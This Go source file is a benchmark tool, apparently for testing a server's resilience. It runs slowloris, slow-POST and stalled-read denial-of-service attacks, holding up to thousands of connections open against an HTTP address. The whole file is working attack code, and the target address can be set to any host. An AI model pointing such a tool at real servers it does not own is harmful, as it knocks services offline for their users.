// Command slowattack holds hostile connections open against an HTTP server
// until it is interrupted, for bench/slow.sh:
//
//   - loris: each connection sends a request header a byte at a time and
//     never finishes it (slowloris);
//   - post: each sends a request header with Content-Length: 1 MiB, then
//     the body a byte at a time;
//   - stall: each sends GET -path and never reads the response.
//
// Every connection sends its next byte every -every (spread evenly over
// the connections); one the server closes is replaced at once, so that -n
// stay open. It prints "ready" on stdout once -n connections have sent
// their start, and on SIGINT or SIGTERM one line: how many connections
// were opened and how many the server closed.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"math/rand/v2"
	"net"
	"os"
	"os/signal"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "server `address`")
	n := flag.Int("n", 1000, "connections to hold")
	attack := flag.String("attack", "loris", "loris, post or stall")
	every := flag.Duration("every", time.Second, "how often each connection sends a byte (loris, post)")
	path := flag.String("path", "/", "request path")
	flag.Parse()
	var head string
	switch *attack {
	case "loris":
		head = "GET " + *path + " HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
	case "post":
		head = "POST " + *path + " HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1048576\r\n\r\n"
	case "stall":
		head = "GET " + *path + " HTTP/1.1\r\nHost: localhost\r\n\r\n"
	default:
		log.Fatalf("slowattack: -attack %q: want loris, post or stall", *attack)
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	a := &attacker{addr: *addr, head: head, every: *every, trickle: *attack != "stall", want: int64(*n), ready: make(chan struct{})}
	var wg sync.WaitGroup
	for range *n {
		wg.Go(func() { a.hold(ctx) })
	}
	select {
	case <-a.ready:
		fmt.Println("ready")
	case <-ctx.Done():
	}
	<-ctx.Done()
	wg.Wait()
	fmt.Printf("slowattack %s: %d connections held, %d opened, %d closed by the server, %d dial errors\n",
		*attack, *n, a.opened.Load(), a.cut.Load(), a.dialErrs.Load())
}

type attacker struct {
	addr    string
	head    string
	every   time.Duration
	trickle bool
	want    int64
	ready   chan struct{}

	opened, cut, dialErrs atomic.Int64
}

// hold keeps one hostile connection open until ctx ends, replacing it
// each time the server closes it.
func (a *attacker) hold(ctx context.Context) {
	var d net.Dialer
	for ctx.Err() == nil {
		c, err := d.DialContext(ctx, "tcp", a.addr)
		if err != nil {
			a.dialErrs.Add(1)
			select {
			case <-ctx.Done():
			case <-time.After(100 * time.Millisecond): // the server is out of descriptors or backlog
			}
			continue
		}
		if _, err := io.WriteString(c, a.head); err == nil {
			if a.opened.Add(1) == a.want {
				close(a.ready)
			}
			a.attack(ctx, c)
		}
		c.Close()
	}
}

// attack trickles bytes on c (unless stalling) until the server closes c
// or ctx ends.
func (a *attacker) attack(ctx context.Context, c net.Conn) {
	if !a.trickle {
		<-ctx.Done()
		return
	}
	closed := make(chan struct{})
	go func() {
		io.Copy(io.Discard, c) // until the server closes c
		close(closed)
	}()
	// The first byte at a random point of the period spreads the writes.
	t := time.NewTimer(rand.N(a.every))
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			c.Close()
			<-closed
			return
		case <-closed:
			a.cut.Add(1)
			return
		case <-t.C:
			if _, err := c.Write([]byte("a")); err != nil {
				<-closed
				a.cut.Add(1)
				return
			}
			t.Reset(a.every)
		}
	}
}
